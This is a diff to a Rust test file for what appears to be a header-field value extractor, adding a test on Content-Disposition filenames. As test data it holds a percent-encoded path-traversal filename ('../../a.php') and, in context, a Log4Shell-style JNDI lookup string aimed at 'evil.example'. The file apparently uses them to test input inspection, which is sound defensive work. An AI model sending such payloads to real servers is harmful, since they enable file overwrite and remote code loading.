@@ -53,6 +53,20 @@ fn fields_as_browsers_write_them_yield_nothing() {
 }
 
 #[test]
+fn the_name_of_an_uploaded_file_is_read_from_its_field() {
+    let encoded = "attachment; filename*=UTF-8''..%2f..%2fa.php";
+    let rows: &[(&str, &[&str])] = &[
+        ("attachment; filename=\"a.txt\"", &["a.txt"]),
+        (encoded, &["../../a.php", encoded]),
+        ("inline", &[]),
+    ];
+    for (value, expected) in rows {
+        assert_eq!(values("Content-Disposition", value), *expected, "{value}");
+    }
+    assert_eq!(yielded("content-disposition", "inline; filename=a.php")[0].0, Part::FileName);
+}
+
+#[test]
 fn every_other_field_is_a_value() {
     let rows = [
         ("X-Api-Version", "${jndi:ldap://evil.example/a}"),
